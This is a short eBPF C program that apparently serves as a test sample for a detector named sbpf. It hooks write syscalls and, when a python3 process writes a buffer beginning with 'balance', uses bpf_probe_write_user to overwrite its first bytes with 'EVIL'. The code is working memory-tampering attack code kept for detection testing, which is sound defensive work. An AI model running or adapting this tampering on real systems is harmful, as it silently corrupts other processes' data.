// SPDX-License-Identifier: GPL-2.0-only
/*
 * What sbpf watches for: a BPF program that changes the memory of a process. It
 * overwrites the first four bytes of a balance that a python3 is about to write.
 */
#include "vmlinux.h"
#include <bpf/bpf_helpers.h>

char LICENSE[] SEC("license") = "GPL";

SEC("tp/syscalls/sys_enter_write")
int inject(struct trace_event_raw_sys_enter *ctx)
{
	void *text = (void *)ctx->args[1];
	char comm[16], word[8] = "";

	bpf_get_current_comm(comm, sizeof(comm));
	bpf_probe_read_user(word, sizeof(word) - 1, text);
	if (!bpf_strncmp(comm, sizeof("python3"), "python3") &&
	    !bpf_strncmp(word, sizeof(word), "balance"))
		bpf_probe_write_user(text, "EVIL", 4);
	return 0;
}
